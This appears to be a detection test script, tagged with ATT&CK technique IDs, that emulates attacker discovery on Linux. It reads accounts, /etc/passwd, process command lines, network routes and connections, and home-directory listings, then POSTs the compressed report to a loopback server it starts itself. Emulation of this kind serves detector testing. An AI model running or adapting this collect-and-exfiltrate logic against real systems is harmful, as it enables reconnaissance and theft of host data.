# technique: T1082 T1087.001 T1057 T1016 T1049 T1083 T1041
"""System discovery through Python APIs only (no child process), then the
report is POSTed to a loopback server (Exfiltration Over C2 Channel,
T1041).

Collects: System Information (T1082: platform.uname, /etc/os-release,
os.cpu_count, /proc/meminfo), Local Accounts (T1087.001: pwd.getpwall,
grp.getgrall, /etc/passwd), Processes (T1057: /proc/*/cmdline), Network
Configuration (T1016: socket.if_nameindex, /etc/resolv.conf,
/proc/net/route), Network Connections (T1049: /proc/net/tcp and tcp6),
File and Directory Discovery (T1083: os.listdir of /home, /root, /opt,
/srv). Serialises it as JSON and POSTs it gzip-compressed with urllib.

A good detector raises a medium or high alert: a burst of reconnaissance
reads (accounts, processes, connections, network configuration) followed
by sending data to a socket.
"""
import gzip
import grp
import http.server
import json
import os
import platform
import pwd
import socket
import threading
import urllib.request


def read(path):
    try:
        with open(path, errors="replace") as f:
            return f.read()
    except OSError:
        return None


report = {
    "uname": platform.uname()._asdict(),
    "os_release": read("/etc/os-release"),
    "cpus": os.cpu_count(),
    "meminfo": (read("/proc/meminfo") or "")[:200],
    "users": [(p.pw_name, p.pw_uid, p.pw_dir, p.pw_shell) for p in pwd.getpwall()],
    "groups": [(g.gr_name, g.gr_mem) for g in grp.getgrall()],
    "passwd": read("/etc/passwd"),
    "interfaces": socket.if_nameindex(),
    "resolv": read("/etc/resolv.conf"),
    "routes": read("/proc/net/route"),
    "tcp": read("/proc/net/tcp"),
    "tcp6": read("/proc/net/tcp6"),
    "hostname": socket.gethostname(),
    "procs": {},
    "dirs": {},
}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        cmd = read(f"/proc/{pid}/cmdline")
        if cmd:
            report["procs"][pid] = cmd.replace("\0", " ")[:200]
for d in ("/home", "/root", "/opt", "/srv"):
    try:
        report["dirs"][d] = os.listdir(d)
    except OSError:
        pass


class Sink(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *a):
        pass


srv = http.server.HTTPServer(("127.0.0.1", 0), Sink)
threading.Thread(target=srv.serve_forever, daemon=True).start()
body = gzip.compress(json.dumps(report, default=str).encode())
urllib.request.urlopen(urllib.request.Request(
    f"http://127.0.0.1:{srv.server_address[1]}/collect", data=body,
    headers={"Content-Encoding": "gzip"}), timeout=5).close()
srv.shutdown()
print("report", len(body), "bytes")
